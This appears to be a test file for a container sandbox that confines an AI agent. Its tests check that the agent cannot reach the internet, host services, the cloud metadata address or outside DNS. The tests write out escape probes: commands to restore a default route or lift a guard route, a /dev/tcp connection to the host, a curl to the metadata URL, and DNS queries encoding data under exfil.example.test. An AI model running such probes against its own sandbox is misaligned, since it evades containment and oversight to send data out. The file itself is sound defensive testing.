import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { assertDockerAvailable, dockerSuite } from '../../helpers/docker.js';
import { startSupervisedBottle, type SupervisedBottle } from '../supervisor/fixture.js';
import {
  agentNode,
  agentTcp,
  agentUdp,
  hostAddresses,
  hostListeners,
  networkGateway,
} from './helpers.js';

// The agent tries to leave its bottle below HTTP: raw TCP and UDP to outside addresses, to the
// host, to the cloud metadata address, and DNS. Outside addresses are documentation ranges
// that nobody answers (on this host 192.0.2.0/24 is the LAN, so only 198.51.100/203.0.113 are
// used); host services are our own listeners on 0.0.0.0, which the host WOULD answer on a
// bridge address (tests/e2e/internal-network-isolation.test.ts shows it without the guard).

type DnsResult = { name: string; type: string; answer?: unknown; error?: string }[];

let bottle: SupervisedBottle;
let listeners: Awaited<ReturnType<typeof hostListeners>>;

describe('attack: leave the bottle below HTTP (network, DNS)', dockerSuite, () => {
  before(async () => {
    assertDockerAvailable();
    [bottle, listeners] = await Promise.all([startSupervisedBottle(), hostListeners()]);
  });
  after(async () => {
    await listeners?.close();
    await bottle?.destroy();
  });

  // Threat row: "direct connection to the internet". Without netguard's removal of the default
  // route the connect would hang (dropped by the engine) instead of failing at once with
  // "Network is unreachable": the assertion names the guard's error, not a timeout.
  it('direct connection to the internet: TCP to outside addresses is unreachable', async () => {
    for (const [host, port] of [
      ['203.0.113.1', 443],
      ['198.51.100.1', 80],
    ] as const) {
      const probe = await agentTcp(bottle, host, port);
      assert.equal(probe.connected, false, probe.output);
      assert.match(probe.output, /Network is unreachable/, probe.output);
    }
  });

  it('direct connection to the internet: a UDP datagram to an outside address is never sent', async () => {
    const probe = await agentUdp(bottle, '203.0.113.1', 53);
    assert.equal(probe.sent, false, probe.output);
    assert.match(probe.output, /Network is unreachable/);
  });

  // Threat row: "connection to the host's own services". The host answers on the internal
  // bridge's gateway even on an internal network; netguard's prohibit route refuses it
  // ("Permission denied"), so our listener never sees a connection.
  it("connection to the host's own services: TCP and UDP to the bottle's bridge gateway are refused", async () => {
    const gateway = await networkGateway(`cb-${bottle.slug}-internal`);
    const tcp = await agentTcp(bottle, gateway, listeners.port);
    assert.equal(tcp.connected, false, tcp.output);
    assert.match(tcp.output, /Permission denied/, tcp.output);
    const udp = await agentUdp(bottle, gateway, listeners.udpPort);
    assert.equal(udp.sent, false, udp.output);
    assert.equal(listeners.tcpAccepted(), 0);
    assert.equal(listeners.udpReceived(), 0);
  });

  it("connection to the host's own services: every other host address (other bridges, docker0, the LAN address) is unreachable", async () => {
    const egressGateway = await networkGateway(`cb-${bottle.slug}-egress`);
    const addresses = [...new Set([egressGateway, ...hostAddresses()])];
    assert.ok(addresses.length >= 2, `host addresses: ${addresses.join(' ')}`);
    for (const address of addresses) {
      const probe = await agentTcp(bottle, address, listeners.port);
      assert.equal(probe.connected, false, `${address}: ${probe.output}`);
    }
    assert.equal(listeners.tcpAccepted(), 0, 'the host listener saw no connection');
  });

  it("connection to the host's own services: the agent cannot restore a route or lift the guard", async () => {
    const gateway = await networkGateway(`cb-${bottle.slug}-internal`);
    const run = await bottle.asAgent(
      `ip route add default via ${gateway} 2>&1; echo "add=$?"; ip route del prohibit ${gateway}/32 2>&1; echo "del=$?"; ip route`,
    );
    assert.match(run.stdout, /add=[1-9]/);
    assert.match(run.stdout, /del=[1-9]/);
    assert.match(run.stdout, /Operation not permitted/);
    assert.match(run.stdout, new RegExp(`prohibit ${gateway.replace(/\./g, '\\.')}`));
    assert.doesNotMatch(run.stdout, /^default/m);
  });

  it("connection to the host's own services: no IPv6 path (link-local to the host included)", async () => {
    // An IPv6 link-local address would reach the host's bridge past the IPv4 guard; the engine
    // disables IPv6 in the container, so there is no address to send from.
    const run = await bottle.asAgent(
      `cat /proc/sys/net/ipv6/conf/all/disable_ipv6; ip -6 addr | grep -c inet6; timeout 4 bash -c 'exec 3<>/dev/tcp/fe80::1%eth0/${listeners.port}' 2>&1; echo "exit=$?"`,
    );
    const [disabled, count] = run.stdout.split('\n');
    assert.equal(disabled, '1', run.stdout);
    assert.equal(count, '0', run.stdout);
    assert.match(run.stdout, /exit=[1-9]/);
  });

  // Threat row: "direct connection to the internet" (the metadata service is an address
  // outside the bottle) and "HTTP(S) to an unlisted host" for the proxy path.
  it('direct connection to the internet: the cloud metadata address 169.254.169.254 is unreachable, and refused by the proxy', async () => {
    const direct = await agentTcp(bottle, '169.254.169.254', 80);
    assert.equal(direct.connected, false, direct.output);
    assert.match(direct.output, /Network is unreachable/);
    const proxied = await bottle.asAgent(
      "curl -s -m 10 -w '\\n%{http_code}' http://169.254.169.254/latest/meta-data/",
    );
    assert.match(proxied.stdout, /no rule in routes\.yaml names the host 169\.254\.169\.254/);
    assert.match(proxied.stdout, /\n403$/);
  });

  // Threat row: "DNS as a channel". Docker's resolver answers the bottle's own service names
  // and forwards the rest from inside the agent's network namespace, where no route leads
  // anywhere. Observed on Docker 20.10: ETIMEOUT. If it were forwarded, the host's resolver
  // would answer NXDOMAIN (ENOTFOUND) for these .test names, or an address for a real one.
  it('DNS as a channel: the service names resolve, outside names get no answer at all', async () => {
    const results = await agentNode<DnsResult>(bottle, 'dns-probe.mjs', {
      queries: [
        ['egress-proxy', 'A'],
        ['supervise', 'A'],
        ['6c65616b2d6d65.exfil.example.test', 'A'],
        ['6c65616b2d6d65.exfil.example.test', 'AAAA'],
        ['api.example.test', 'A'],
      ],
    });
    const [proxy, supervise, ...outside] = results;
    assert.ok(Array.isArray(proxy?.answer), JSON.stringify(proxy));
    assert.ok(Array.isArray(supervise?.answer), JSON.stringify(supervise));
    // api.example.test is a container on the bottle's egress network: not the agent's to see.
    for (const result of outside) {
      assert.equal(result.answer, undefined, JSON.stringify(result));
      assert.match(result.error ?? '', /^(ETIMEOUT|ESERVFAIL|EREFUSED)$/, JSON.stringify(result));
    }
  });

  it('DNS as a channel: a TXT query (data out in the name, data in the answer) gets no answer', async () => {
    const results = await agentNode<DnsResult>(bottle, 'dns-probe.mjs', {
      queries: [
        ['c2VjcmV0LWRhdGE.t.exfil.example.test', 'TXT'],
        ['exfil.example.test', 'MX'],
      ],
    });
    for (const result of results) {
      assert.equal(result.answer, undefined, JSON.stringify(result));
      assert.notEqual(result.error, 'ENOTFOUND', 'an upstream resolver answered');
    }
  });

  it('DNS as a channel: a resolver of the agent’s choosing is unreachable', async () => {
    const [result] = await agentNode<DnsResult>(bottle, 'dns-probe.mjs', {
      server: '203.0.113.1',
      queries: [['exfil.example.test', 'TXT']],
    });
    assert.equal(result?.answer, undefined);
    const udp = await agentUdp(bottle, '198.51.100.53', 53);
    assert.equal(udp.sent, false, udp.output);
  });
});
